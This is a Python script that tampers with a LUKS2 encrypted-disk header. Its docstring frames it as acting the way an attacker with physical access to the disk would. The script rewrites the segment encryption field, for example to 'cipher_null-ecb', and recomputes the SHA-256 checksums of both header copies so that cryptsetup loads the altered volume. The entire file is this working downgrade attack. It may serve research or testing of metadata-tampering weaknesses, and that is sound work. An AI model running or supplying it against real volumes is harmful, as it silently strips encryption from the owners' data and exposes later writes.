#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""luks2-edit: rewrite one field of a LUKS2 header's JSON metadata in place,
as an attacker with the disk would, keeping both header copies valid (their
checksums recomputed), so that libcryptsetup loads the result.

  luks2-edit.py IMAGE segment-encryption VALUE   e.g. cipher_null-ecb

The binary header (LUKS2 on-disk format, cryptsetup docs/on-disk-format-
luks2.pdf): magic "LUKS\\xba\\xbe" or "SKUL\\xba\\xbe", version u16, hdr_size
u64 at 8, seqid u64 at 16, checksum_alg char[32] at 72, csum[64] at 448.
The checksum is over hdr_size bytes (binary header and JSON area) with csum
zeroed. The secondary copy starts at hdr_size.
"""
import hashlib
import json
import struct
import sys


def rewrite(img, edit):
    with open(img, "r+b") as f:
        first = f.read(4096)
        if first[:6] != b"LUKS\xba\xbe":
            sys.exit("luks2-edit: %s: not a LUKS2 primary header" % img)
        hdr_size = struct.unpack_from(">Q", first, 8)[0]
        for off in (0, hdr_size):
            f.seek(off)
            area = bytearray(f.read(hdr_size))
            alg = area[72:104].rstrip(b"\0").decode()
            if alg != "sha256":
                sys.exit("luks2-edit: checksum %s not handled" % alg)
            meta = json.loads(area[4096:].rstrip(b"\0"))
            edit(meta)
            text = json.dumps(meta, separators=(",", ":")).encode()
            if len(text) >= hdr_size - 4096:
                sys.exit("luks2-edit: the new JSON does not fit")
            area[4096:] = text + b"\0" * (hdr_size - 4096 - len(text))
            area[448:512] = b"\0" * 64
            area[448:480] = hashlib.sha256(bytes(area)).digest()
            f.seek(off)
            f.write(area)


def main(argv):
    if len(argv) != 4 or argv[2] != "segment-encryption":
        sys.exit(__doc__)
    value = argv[3]

    def edit(meta):
        for seg in meta["segments"].values():
            seg["encryption"] = value
    rewrite(argv[1], edit)


if __name__ == "__main__":
    main(sys.argv)
